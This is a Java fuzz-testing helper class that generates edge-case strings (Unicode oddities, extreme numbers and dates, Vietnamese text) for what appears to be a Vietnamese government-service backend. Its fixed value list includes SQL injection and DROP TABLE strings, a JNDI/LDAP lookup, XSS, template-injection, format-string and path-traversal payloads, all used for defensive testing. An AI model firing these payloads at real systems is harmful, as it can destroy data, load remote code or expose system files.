package vn.onestop.launcher.fuzz;

import java.util.List;
import java.util.Random;
import java.util.UUID;

/**
 * Strings that break naive code: empty and blank, huge, combining marks, bidi overrides, zero-width characters,
 * lone surrogates, NUL and other controls, astral characters, Vietnamese in NFD, injection and format strings,
 * numbers and dates at and past their limits.
 */
public final class OddValues {

	private static final List<String> FIXED = List.of("", " ", "\t\n\r", "\u00a0", "null", "undefined", "true", "0", "-1",
			"2147483648", "-9223372036854775809", "99999999999999999999999999", "1e309", "-0", "NaN", "Infinity", "0x1F",
			"2026-02-30", "0000-01-01", "9999-12-31", "+999999999-12-31", "2026-13-01T25:61:61", "2026-01-01T00:00:00+25:00",
			"00000000-0000-0000-0000-000000000000", "00000000-0000-0000-0000-00000000000g", "20242", "00000", "99999", "2024",
			"202420", "048187000123", "000000000", "0912345678", "+84", "HT-XAC-NHAN-HON-NHAN", "IN_PERSON", "SMS", "NONE",
			"\u202eabc\u202c", "\u2066\u2067\u2068\u2069x", "\u200b\u200c\u200d\u2060\ufeff", "\ud800", "\udfff", "a\ud83dz",
			"\ud83d\ude00\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67", "\u0000", "a\u0000b", "\u0001\u001f\u007f\u0085",
			"\u2028\u2029", "Nguye\u0302\u0303n Thi\u0323 Lan", "NGUYỄN thị LAN", "Đặng", "\ufdd0\uffff\ufffe", "\ue000",
			"' OR 1=1 --", "\"; DROP TABLE dossier; --", "%s%n%x", "${jndi:ldap://x/a}", "{{7*7}}", "<script>alert(1)</script>",
			"../../etc/passwd", "..\\..\\", "%00", "%2F", "%zz", "/", "\\", "?", "#", "&", "=", ";", "*", "%", "_", "[]", "{}");

	private OddValues() {
	}

	public static String string(Random random) {
		return switch (random.nextInt(12)) {
			case 0 -> "a\u0301\u0302\u0303\u0323".repeat(1 + random.nextInt(random.nextInt(10) == 0 ? 2_000 : 100));
			case 1 -> "x".repeat(random.nextInt(10) == 0 ? 1_000 + random.nextInt(300_000) : 100 + random.nextInt(1_000));
			case 2 -> randomUnicode(random, 1 + random.nextInt(200));
			case 3 -> UUID.nameUUIDFromBytes(longBytes(random.nextLong())).toString();
			case 4 -> FIXED.get(random.nextInt(FIXED.size())) + FIXED.get(random.nextInt(FIXED.size()));
			default -> FIXED.get(random.nextInt(FIXED.size()));
		};
	}

	/** A version 4 UUID drawn from the request's own random, never from a global one: requests must replay. */
	public static String uuid(Random random) {
		long high = (random.nextLong() & ~0xF000L) | 0x4000L;
		long low = (random.nextLong() & 0x3FFFFFFFFFFFFFFFL) | 0x8000000000000000L;
		return new UUID(high, low).toString();
	}

	/** Any code unit, lone surrogates and controls included. */
	public static String randomUnicode(Random random, int length) {
		StringBuilder out = new StringBuilder(length);
		for (int i = 0; i < length; i++) {
			out.append(switch (random.nextInt(6)) {
				case 0 -> (char) random.nextInt(0x20);
				case 1 -> (char) (0xd800 + random.nextInt(0x800));
				case 2 -> (char) (0x300 + random.nextInt(0x70));
				case 3 -> (char) (0x200b + random.nextInt(0x30));
				case 4 -> (char) random.nextInt(0x10000);
				default -> (char) (0x20 + random.nextInt(0x5f));
			});
		}
		return out.toString();
	}

	public static byte[] randomBytes(Random random, int length) {
		byte[] bytes = new byte[length];
		random.nextBytes(bytes);
		return bytes;
	}

	private static byte[] longBytes(long value) {
		return java.nio.ByteBuffer.allocate(Long.BYTES).putLong(value).array();
	}

}
